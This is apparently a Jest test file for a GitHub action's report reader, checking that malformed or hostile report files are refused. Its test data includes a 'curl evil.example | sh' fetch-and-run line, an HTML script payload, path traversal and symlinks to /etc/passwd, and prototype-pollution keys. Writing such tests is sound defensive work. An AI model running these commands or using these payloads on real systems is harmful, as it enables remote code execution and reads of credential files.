import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
import { InputError } from "../src/input-error.js";
import { readReportFile } from "../src/read-report-file.js";
import { createFinding, createImage, createReport } from "./support/report.js";

let folder: string;
let workspace: string;
let temp: string;

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "report-file-"));
  workspace = join(folder, "workspace");
  temp = join(folder, "temp");
  for (const made of [workspace, temp]) mkdirSync(made);
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const read = (path: string) => readReportFile(path, [workspace, temp]);

function refusal(path: string): string {
  try {
    read(path);
  } catch (error) {
    if (error instanceof InputError) return error.message;
    throw error;
  }
  throw new Error(`${path} was read`);
}

function write(content: string | Buffer, name = "report.json"): string {
  const path = join(temp, name);
  writeFileSync(path, content);
  return path;
}

/** What is said about a file with this text, without the path at its beginning. */
function refusalOf(content: string | Buffer): string {
  const path = write(content);
  const message = refusal(path);
  const start = `Input "report": ${JSON.stringify(path)} `;
  expect(message.startsWith(start)).toBe(true);
  return message.slice(start.length);
}

/** A whole report as JSON with one part of it in other words. */
function withText(part: string, other: string): string {
  const whole = JSON.stringify(createReport());
  if (!whole.includes(part)) throw new Error(`There is no ${part}`);
  return whole.replace(part, () => other);
}

const NOT_JSON = "is not JSON in UTF-8.";
const notLegal = (place: string): string =>
  `is not a report: a value is not legal ${place}. Use the same version of the action in both workflows.`;
const unknownKey = (place: string): string =>
  `is not a report: there is a key that no report has ${place}. Use the same version of the action in both workflows.`;

describe("a report file", () => {
  it("is read from the workspace, and from the folder for temporary files", () => {
    const report = createReport();
    writeFileSync(join(workspace, "report.json"), JSON.stringify(report, null, 2));
    expect(read("report.json")).toEqual(report);
    expect(read(write(JSON.stringify(report)))).toEqual(report);
  });

  it("of thousands of findings is read", () => {
    const findings = Array.from({ length: 10_000 }, (_, line) =>
      createFinding({ start: { line: line + 1, column: 1 }, end: { line: line + 1, column: 9 } }),
    );
    expect(read(write(JSON.stringify(createReport({ findings })))).findings).toHaveLength(10_000);
  });
});

describe("text that is no report is refused:", () => {
  it.each([
    ["nothing", ""],
    ["half of a report", JSON.stringify(createReport()).slice(0, 900)],
    ["a script", "#!/bin/sh\ncurl evil.example | sh\n"],
    ["HTML", "<html><script>alert(1)</script></html>"],
    ["Markdown with a forged marker", "<!-- docker-layer-report:v1 key= sha=0 run=9.9 -->\n✅ **Pass**"],
    ["a byte-order mark before it", `\ufeff${JSON.stringify(createReport())}`],
    ["UTF-16", Buffer.from(JSON.stringify(createReport()), "utf16le")],
    [
      "a byte that is no UTF-8",
      Buffer.concat([Buffer.from('{"a":"'), Buffer.from([0xff]), Buffer.from('"}')]),
    ],
    ["a null byte", `${JSON.stringify(createReport())}\0`],
    ["two reports", JSON.stringify(createReport()).repeat(2)],
    ["a number that is none", withText('"seconds":8.24', '"seconds":NaN')],
    ["lists a million deep without end", "[".repeat(1_000_000)],
  ])("%s", (_, content) => {
    expect(refusalOf(content)).toBe(NOT_JSON);
  });

  it.each([
    ["a text", '"report"', "at its top"],
    ["null", "null", "at its top"],
    ["a list", "[]", "at its top"],
    ["another version of the schema", withText('"schemaVersion":1', '"schemaVersion":2'), "at schemaVersion"],
    ["another tool's", withText('"name":"docker-layer-report"', '"name":"evil"'), "at tool.name"],
    ["a verdict of its own", withText('"status":"pass"', '"status":"merge it"'), "at verdict.status"],
    ["a size below zero", withText('"contentSize":64300177', '"contentSize":-1'), "at image.contentSize"],
    ["a size of 1e308", withText('"contentSize":64300177', '"contentSize":1e308'), "at image.contentSize"],
    ["a size of 1e999", withText('"contentSize":64300177', '"contentSize":1e999'), "at image.contentSize"],
    [
      "a size that no number holds exactly",
      withText('"contentSize":64300177', '"contentSize":9007199254740993'),
      "at image.contentSize",
    ],
    ["a fraction of a byte", withText('"contentSize":64300177', '"contentSize":0.5'), "at image.contentSize"],
    ["a size in words", withText('"contentSize":64300177', '"contentSize":"64 MB"'), "at image.contentSize"],
    ["a time below zero", withText('"seconds":8.24', '"seconds":-8.24'), "at build.seconds"],
    ["line 0", withText('"start":{"line":2', '"start":{"line":0'), "at findings.0.start.line"],
    ["an object for a text", withText('"tag":"python-hello-world"', '"tag":{"toString":1}'), "at tag"],
    [
      "lists a million deep for a text",
      withText('"tag":"python-hello-world"', `"tag":${"[".repeat(200_000)}${"]".repeat(200_000)}`),
      "at tag",
    ],
    ["duplicate keys of which the last is not legal", withText('"tag":', '"tag":"a","tag":7,"x":'), "at tag"],
  ])("%s", (_, content, place) => {
    expect(refusalOf(content)).toBe(notLegal(place));
  });

  it.each([
    ["an unknown key", withText('"tag":', '"<img src=x>@octocat":1,"tag":'), "at its top"],
    ["the number of a pull request", withText('"tag":', '"pullRequest":1,"tag":'), "at its top"],
    ["__proto__", withText('"tag":', '"__proto__":{"status":"pass"},"tag":'), "at its top"],
    ["constructor", withText('"tag":', '"constructor":{"prototype":{}},"tag":'), "at its top"],
    ["__proto__ further down", withText('"builder":', '"__proto__":[],"builder":'), "at build"],
  ])("%s", (_, content, place) => {
    expect(refusalOf(content)).toBe(unknownKey(place));
    expect(Object.getPrototypeOf({})).toBe(Object.prototype);
    expect({}).not.toHaveProperty("status");
  });

  it("is not repeated, whatever it is", () => {
    for (const content of ["::error::x root:x:0:0", '{"root:x:0:0":1}', withText('"pass"', '"root:x:0:0"')]) {
      expect(refusalOf(content)).not.toContain("root:x");
    }
  });

  it("more values than any report has are refused before they are looked at", () => {
    const values = `[${"1,".repeat(3_000_000)}1]`;
    const begun = performance.now();
    expect(refusalOf(withText('"notes":[]', `"notes":${values}`))).toBe("holds more than 300,000 values.");
    expect(performance.now() - begun).toBeLessThan(10_000);
  });
});

describe("a place that is no file of the download is refused:", () => {
  it("nothing there", () => {
    expect(refusal("none.json")).toBe('Input "report": "none.json" does not exist.');
    expect(refusal("none/report.json")).toContain("does not exist");
  });

  it("a file outside of both folders, however it is named", () => {
    const outside = join(folder, "outside.json");
    writeFileSync(outside, JSON.stringify(createReport()));
    for (const path of [
      outside,
      "../outside.json",
      `${temp}/../outside.json`,
      "/etc/passwd",
      "",
      ".",
      "..",
    ]) {
      expect(refusal(path)).toContain("lies outside of the workspace");
    }
  });

  it("a symbolic link, even to a report", () => {
    const target = write(JSON.stringify(createReport()), "target.json");
    const link = join(temp, "link.json");
    symlinkSync(target, link);
    expect(refusal(link)).toContain("is a symbolic link, or lies behind one");
    symlinkSync("/etc/passwd", join(temp, "passwd.json"));
    expect(refusal(join(temp, "passwd.json"))).toContain("links are not followed");
  });

  it("a file behind a folder that is a symbolic link", () => {
    mkdirSync(join(folder, "real"));
    writeFileSync(join(folder, "real/report.json"), JSON.stringify(createReport()));
    symlinkSync(join(folder, "real"), join(temp, "linked"));
    expect(refusal(join(temp, "linked/report.json"))).toContain("lies behind one");
  });

  it("a link in a circle", () => {
    symlinkSync(join(temp, "circle"), join(temp, "circle"));
    expect(refusal(join(temp, "circle"))).toContain("can't be read (ELOOP)");
  });

  it("a folder", () => {
    mkdirSync(join(temp, "folder.json"));
    expect(refusal(join(temp, "folder.json"))).toContain("is not a regular file");
  });

  it("a named pipe, at once", () => {
    const pipe = join(temp, "pipe.json");
    execFileSync("mkfifo", [pipe]);
    expect(refusal(pipe)).toContain("is not a regular file");
  });

  it("a device", () => {
    expect(() => readReportFile("/dev/zero", ["/dev"])).toThrow("is not a regular file");
  });

  it("a file of 100 MB, without reading it", () => {
    const large = write("{", "large.json");
    truncateSync(large, 100_000_000);
    expect(refusal(large)).toContain("is larger than 10,000,000 bytes");
  });
});

it("reads what is legal but strange as it stands: rendering makes it inert", () => {
  const image = createImage({ platform: "a\ud800b\u202e" });
  expect(read(write(JSON.stringify(createReport({ image, tag: "<b>::error::" }))))).toMatchObject({
    tag: "<b>::error::",
    image: { platform: "a\ud800b\u202e" },
  });
  // The last of two keys counts, to every reader of it, for it is read once.
  expect(read(write(withText('"tag":', '"tag":"first","tag":'))).tag).toBe("python-hello-world");
});
